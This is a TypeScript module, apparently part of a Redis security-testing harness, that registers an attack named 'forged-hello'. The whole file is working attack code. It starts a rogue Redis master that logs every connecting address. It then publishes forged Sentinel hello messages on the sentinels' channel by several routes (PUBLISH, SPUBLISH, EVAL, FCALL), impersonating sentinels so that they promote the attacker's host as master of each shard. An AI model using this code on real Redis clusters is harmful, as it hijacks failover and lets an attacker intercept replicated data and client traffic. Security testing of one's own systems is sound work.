import { createServer, type Socket } from 'node:net';
import { networkInterfaces } from 'node:os';
import { register } from '../attack.ts';
import { brief, isError, type Wire } from '../wire.ts';

const REDIS_PORT = 6379;

/** Takes notes of whoever comes, and plays a master to them. */
function rogue(hear: (bytes: Buffer) => void): Promise<{ visitors: Set<string>; end(): void }> {
  const visitors = new Set<string>();
  const sockets = new Set<Socket>();
  const server = createServer((socket) => {
    sockets.add(socket);
    visitors.add(socket.remoteAddress ?? '?');
    socket.on('error', () => undefined);
    socket.on('data', (chunk: Buffer) => {
      hear(chunk);
      const text = chunk.toString('latin1').toUpperCase();
      if (text.includes('ROLE')) socket.write('*3\r\n$6\r\nmaster\r\n:0\r\n*0\r\n');
      else if (text.includes('PING')) socket.write('+PONG\r\n');
      else if (text.includes('INFO')) socket.write('$13\r\nrole:master\r\n\r\n');
      else socket.write('+OK\r\n');
    });
  });
  return new Promise((resolve, reject) => {
    server.once('error', reject);
    server.listen(REDIS_PORT, () =>
      resolve({
        visitors,
        end() {
          for (const socket of sockets) socket.destroy();
          server.close();
        },
      }),
    );
  });
}

const ownAddress = (): string =>
  Object.values(networkInterfaces())
    .flat()
    .find((each) => each?.family === 'IPv4' && !each.internal)?.address ?? '127.0.0.1';

/** Ways to say something on a channel. */
const PUBLISHERS: ReadonlyArray<
  (wire: Wire, channel: string, text: string, key: string) => Promise<string | undefined>
> = [
  (wire, channel, text) => wire.ask('PUBLISH', channel, text),
  (wire, channel, text) => wire.ask('SPUBLISH', channel, text),
  (wire, channel, text, key) =>
    wire.ask('EVAL', "return redis.call('PUBLISH',ARGV[1],ARGV[2])", '1', key, channel, text),
  (wire, channel, text, key) =>
    wire.ask('EVAL', "return redis.pcall('SPUBLISH',ARGV[1],ARGV[2])", '1', key, channel, text),
  (wire, channel, text, key) => wire.ask('FCALL', 'publish', '1', key, channel, text),
];

register({
  name: 'forged-hello',
  tries: 'tells the sentinels, in the name of one of them, that another server is the master of a shard',
  as: ['application'],
  seconds: 12,
  async run(attacker) {
    const { target } = attacker;
    const server = await rogue(attacker.hear);
    const wire = await attacker.enter();
    const sentinels = target.neighbours.filter(({ role }) => role === 'sentinel');
    const answers = new Set<string>();
    let said = 0;
    for (let epoch = 2000; epoch < 2003; epoch++) {
      for (const shard of target.shards) {
        for (const { address } of sentinels) {
          const hello = [
            address,
            26379,
            'f'.repeat(40),
            epoch,
            shard,
            ownAddress(),
            REDIS_PORT,
            epoch,
          ].join();
          // A script runs where its key lives: some of these are on every shard.
          for (let n = 0; n < 8; n++) {
            for (const publish of PUBLISHERS) {
              const answer = await publish(wire, '__sentinel__:hello', hello, attacker.key(n));
              answers.add(brief(answer));
              if (!isError(answer)) said += 1;
            }
          }
        }
      }
      await attacker.rest(1500);
    }
    await attacker.rest(3000);
    server.end();
    const visitors = [...server.visitors];
    return {
      did: `${said} forged messages taken; ${[...answers].slice(0, 3).join(' | ')}`,
      got: [
        ...(visitors.length > 0 ? [`${visitors.join(', ')} came to the rogue master`] : []),
        ...(said > 0 ? ['may speak on the channel of the sentinels'] : []),
      ],
    };
  },
});
